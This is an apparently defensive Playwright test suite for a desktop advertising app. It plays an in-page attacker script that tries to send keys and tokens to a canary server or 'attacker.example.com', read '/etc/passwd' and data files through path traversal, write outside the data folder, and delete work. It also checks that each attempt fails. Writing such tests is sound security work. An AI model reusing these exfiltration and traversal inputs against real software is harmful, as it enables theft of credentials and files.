/**
 * An attacker's script in the page, with the application's own calls, against the real engine, a signed-in connection and real data: it
 * tries to get keys, tokens and files, to reach a server of its own, to write elsewhere and to take work away unseen. Nobody confirms
 * anything. A canary server that plays along with every step counts what arrives.
 */
import { existsSync, readFileSync, readdirSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { expect, test } from '@playwright/test'
import { CanaryServer } from '../support/canary-server.ts'
import type { RealGalley } from '../support/app.ts'
import { openSignedIn } from '../support/open-galley.ts'
import type { PracticeProcess } from '../support/practice-process.ts'

let canary: CanaryServer
let galley: RealGalley
let practice: PracticeProcess
/** What every script knows: it can read the window, and its author has a server. */
let known: Record<string, unknown>
let opened: string
let secretFile: string

const begin = async (open: { galley: RealGalley; practice: PracticeProcess }) => {
  galley = open.galley
  practice = open.practice
  canary = await CanaryServer.start()
  const state = await galley.call('app.state', {})
  const company = state.connections[0]!
  await galley.call('bearer.request', { connectionId: company.id })
  const accountId = practice.info.users[0]!.accounts[0]!.id
  secretFile = join(galley.dataDir, 'secret-of-the-person.csv')
  writeFileSync(secretFile, 'email\nanna@example.com\n')
  const [campaign] = await galley.call('record.list', { kind: 'campaign', accountId, filter: {}, limit: 1 })
  known = {
    company,
    id: company.id,
    accountId,
    canary: canary.address,
    host: new URL(canary.address).host,
    secretFile,
    key: campaign!.key,
    own: { consumerKey: 'data-to-carry-out', consumerSecret: 'x' },
  }
  opened = readFileSync(join(galley.dataDir, 'opened.txt'), 'utf8')
  galley.answerQuestions('refuse')
}
// What a script is refused is said.
openSignedIn(begin, { mayComplain: (complaint) => complaint.includes('Failed to load resource') })
test.afterAll(() => canary?.stop())

/** Signs in by calls alone; ends with true where the engine went along to the end. */
const signIn = (connection: string, keys = '{ consumerKey: null, consumerSecret: null }', more = '') => `
  (async () => {
    const flow = await call('signIn.start', { connection: ${connection}, mode: 'pin', ...${keys}, access: null, open: true, ${more} })
    if (!flow.ok) return false
    await call('signIn.openBrowser', { flowId: flow.value.flowId })
    await call('signIn.pin', { flowId: flow.value.flowId, pin: '1234567' })
    await call('signIn.confirm', { flowId: flow.value.flowId })
    await call('bearer.request', { connectionId: id })
    await call('activity.listen', { isOn: true })
    return true
  })()`
const fields = (more: string) =>
  `(({ id, user, access, secrets, managedBy, ...rest }) => ({ ...rest, ${more} }))(company)`
const anyOk = (...calls: string[]) => `(await Promise.all([${calls.join(', ')}])).some((reply) => reply?.ok)`
const named = (path: string) =>
  `Object.assign(new File(['x'], 'x.csv'), { path: ${path} }), { name: 'x.csv', path: ${path}, arrayBuffer: () => Promise.reject(new Error('none')) }`

/** Each goal is a script that ends with true when it was reached. */
const goals: Record<string, string> = {
  // Keys and tokens to a server of its own
  'send the kept keys to its server for signing in': signIn(fields('baseUrl: canary')),
  'send them to its server for advertising': signIn(fields('adsBaseUrl: canary')),
  'send them to its server for the sandbox': signIn(fields('adsSandboxBaseUrl: canary')),
  'send them to its server for uploads': signIn(fields('uploadBaseUrl: canary')),
  'send them to its server for everything': signIn(
    fields('baseUrl: canary, adsBaseUrl: canary, adsSandboxBaseUrl: canary, uploadBaseUrl: canary'),
  ),
  'send them to its server as practice': signIn(fields("name: 'Practice', isPractice: true, baseUrl: canary")),
  'send them with the name written otherwise': signIn(
    fields("name: ` ${company.name}\\u00a0`.trim() + ' ', baseUrl: canary"),
  ),
  'send them to another path of the same host': signIn(fields("baseUrl: company.baseUrl + '/other'")),
  'send them past the base by dots': signIn(fields("baseUrl: company.baseUrl + '/x/../../y'")),
  'carry data out as keys of its own': signIn(fields("name: 'other', baseUrl: canary"), 'own'),
  'carry data out as keys of its own to the known name': signIn(fields('baseUrl: canary'), 'own'),
  'carry data out in the path of an address': signIn(
    fields("name: 'other', baseUrl: canary + '/' + encodeURIComponent(JSON.stringify(company)).slice(0, 150)"),
    'own',
  ),
  'carry data out by the callback way': signIn(fields("name: 'other', baseUrl: canary"), 'own', "mode: 'callback'"),
  'use keys of its own beside the kept ones': anyOk(
    `call('connection.useSecrets', { connection: ${fields('baseUrl: canary, adsBaseUrl: canary')}, secrets: { ...own, accessToken: '1-a', accessTokenSecret: 'b' } })`,
  ),
  'spell names otherwise for the company’s connection': signIn(
    fields("aliases: { preview_host: host, name: 'title' }"),
  ),
  'get a key, token or secret in any answer': `(await Promise.all([['app.state', {}], ['connection.list', {}], ['credential.list', { connectionId: id }], ['bearer.request', { connectionId: id }], ['shell.info', {}], ['shell.engineState', {}], ['settings.get', {}], ['activity.view', {}], ['data.backups', { connectionId: id }]].map(([name, input]) => call(name, input)))).map((reply) => JSON.stringify(reply, (_, value) => typeof value === 'bigint' ? String(value) : value)).some((text) => secrets.some((secret) => text.includes(secret)))`,
  // Its own server, without keys
  'have a page of its server read': anyOk(
    `call('preview.page', { url: canary + '/page' })`,
    `call('shell.picturePage', { url: canary + '/page' }).then((reply) => ({ ok: reply.ok && reply.value !== null }))`,
  ),
  'have a picture of its server read': anyOk(
    `call('record.create', { kind: 'media_library', accountId, values: { media_url: canary + '/x.png', media_url_https: canary + '/x.png' } })`,
    `call('record.edit', { key, values: { media_url: canary + '/x.png' } })`,
  ),
  'open the browser at its address': `await (async () => { for (const url of [canary, 'https://attacker.example.com/']) { const flow = await call('signIn.start', { connection: ${fields("name: 'other', baseUrl: url, adsBaseUrl: url, adsSandboxBaseUrl: url, uploadBaseUrl: null")}, mode: 'pin', ...own, access: null, open: true }); if (flow.ok) return true } return ${anyOk(`call('shell.openExternal', { url: canary })`, `call('signIn.openBrowser', { flowId: canary })`, `call('app.open', { url: canary })`)} })()`,
  // Files of this computer
  'take in a file by its path': anyOk(
    `call('media.add', { paths: [secretFile, '/etc/passwd'], accountId })`,
    `call('media.path', { what: 'file', sha256: '0'.repeat(64) })`,
  ),
  'look at a list of people by its path': anyOk(`call('audience.look', { path: secretFile })`),
  'read a sheet by its path': anyOk(`call('csv.read', { path: secretFile, kind: 'campaign', accountId })`),
  'give a path beside a file': `(await Promise.all([galley.callWithFile('csv.read', new File(['name'], 'a.csv'), { path: secretFile, kind: 'campaign', accountId }), galley.callWithFile('audience.look', new File(['a'], 'a.csv'), { path: secretFile })].map((asked) => Promise.resolve(asked).catch(() => null)))).some((reply) => reply?.ok)`,
  'write a sheet to a path': anyOk(
    `call('csv.export', { kind: 'campaign', accountId, path: '/tmp/galley-escape.csv' })`,
    `call('shell.saveSheet', { kind: 'campaign', accountId, title: 'x', path: '/tmp/galley-escape.csv' })`,
  ),
  'name a file by the path that an object says': `(await Promise.all([${named('secretFile')}].flatMap((file) => [galley.callWithFile('audience.look', file, {}), galley.callWithFile('csv.read', file, { kind: 'campaign', accountId }), galley.addFiles([file], accountId).then((all) => all[0])].map((asked) => Promise.resolve(asked).catch(() => null))))).some((reply) => reply?.ok && JSON.stringify(reply, (_, value) => typeof value === 'bigint' ? String(value) : value).includes('anna'))`,
  'import a list of people by its path': anyOk(
    `call('audience.import', { path: secretFile, lookId: secretFile, accountId, audienceId: 'a', columns: [] })`,
    `call('audience.check', { path: secretFile, lookId: secretFile, columns: [] })`,
  ),
  'read files by the address of media': `await (async () => { for (const path of ['file/../../connections.json', 'file/..%2f..%2fconnections.json', '../connections.json', 'file//etc/passwd', 'thumb/' + '0'.repeat(64)]) { const seen = await new Promise((done) => { const image = new Image(); image.onload = () => done(true); image.onerror = () => done(false); image.src = 'media://' + path }); if (seen) return true } return false })()`,
  'show a folder of its choice': anyOk(`call('shell.showDataFolder', { path: '/etc' })`),
  // Data of others, and data that goes
  'reach another folder by the id of a connection': anyOk(
    ...["'../../etc'", "id + '/..'", "'__proto__'", "'constructor'", "''"].flatMap((other) =>
      ['data.backups', 'connection.open', 'credential.list', 'bearer.request', 'signIn.out'].map(
        (name) => `call('${name}', { connectionId: ${other} })`,
      ),
    ),
  ),
  'put an older backup in place of the work': anyOk(`call('data.restore', { connectionId: id, from: 'backup' })`),
  'begin anew in place of the work': anyOk(`call('data.restore', { connectionId: id, from: 'nothing' })`),
  'delete the connection with its work': anyOk(`call('connection.forget', { connectionId: id, deleteData: true })`),
  'delete it with what only passes for a yes': anyOk(
    ...['1', "'true'", '[true]', '{}', 'undefined'].map(
      (value) => `call('connection.forget', { connectionId: id, deleteData: ${value} })`,
    ),
  ),
  'make a call that is none': anyOk(
    ...['__proto__', 'constructor', 'toString', 'x.__proto__', 'core.close', 'secrets.read'].map(
      (name) => `call('${name}', {})`,
    ),
  ),
}

test('the script has what it needs: an honest call of its is answered', async () => {
  expect(await galley.page.evaluate(script(`(await call('app.state', {})).ok`))).toBe(true)
})

for (const [goal, body] of Object.entries(goals)) {
  test(`a script cannot ${goal}`, async () => {
    const late = new Promise<boolean>((resolve) => setTimeout(() => resolve(false), 10_000))
    const reached = await Promise.race([galley.page.evaluate(script(body)), late])
    expect(reached).toBe(false)
    expect(canary.connectionCount).toBe(0)
  })
}

test('it cannot write files outside by the names that it gives', async () => {
  const before = readdirSync('/tmp').length
  const names = ['../../escape', '/tmp/galley-escape', '..\\..\\escape', 'a/../../../escape', 'x\u0000.html']
  for (const name of names) {
    await galley.page.evaluate(
      script(`(await Promise.all([
        call('shell.saveStoryboard', { title: ${JSON.stringify(name)}, css: '', body: '<p>x</p>' }),
        call('shell.saveSheet', { kind: 'campaign', accountId, title: ${JSON.stringify(name)} }),
        call('media.addBytes', { name: ${JSON.stringify(`${name}.png`)}, bytes: new Uint8Array([137, 80, 78, 71]), accountId }),
      ]), false)`),
    )
  }
  const outside = [join(galley.dataDir, '..'), '/tmp', '/', process.cwd()].flatMap((folder) =>
    readdirSync(folder).filter((file) => file.includes('escape')),
  )
  expect(outside).toEqual([])
  expect(readdirSync('/tmp').length).toBeLessThanOrEqual(before + 2)
  expect(
    readdirSync(galley.dataDir, { recursive: true, encoding: 'utf8' }).filter((file) => /escape/.test(file)),
  ).toEqual(
    readdirSync(galley.savedDir)
      .map((file) => join('saved', file))
      .filter((file) => /escape/.test(file)),
  )
})

test('afterwards nothing has arrived, no browser was opened, and the connection works as before', async () => {
  expect(canary.connectionCount).toBe(0)
  expect(canary.requests).toEqual([])
  expect(readFileSync(join(galley.dataDir, 'opened.txt'), 'utf8')).toBe(opened)
  expect(existsSync('/tmp/galley-escape.csv')).toBe(false)
  // Each try at a new address was asked about, and shown whole.
  expect(galley.questions.filter(({ detail }) => detail.includes(canary.address)).length).toBeGreaterThan(0)
  const state = await galley.call('app.state', {})
  expect(state.connections).toEqual([known['company']])
  expect(state.connectionId).toBe(known['id'])
  const pulled = await galley.call('pull.run', { accountId: known['accountId'] as string, kinds: ['campaign'] })
  expect(JSON.stringify(pulled)).not.toContain('error')
})

/** The body with what the attacker knows; `secrets` are there to be searched for in answers, the script has no other way to them. */
function script(body: string): string {
  const { info } = practice
  const user = info.users[0]!
  const secrets = [info.consumer_secret, user.access_token, user.access_token_secret]
  const names = Object.keys(known).join(', ')
  return `(async ({ ${names}, secrets }) => {
    const galley = window.galley
    const call = (name, input) => galley.call(name, input).catch(() => null)
    try { return await (${body}) } catch { return false }
  })(${JSON.stringify({ ...known, secrets })})`
}
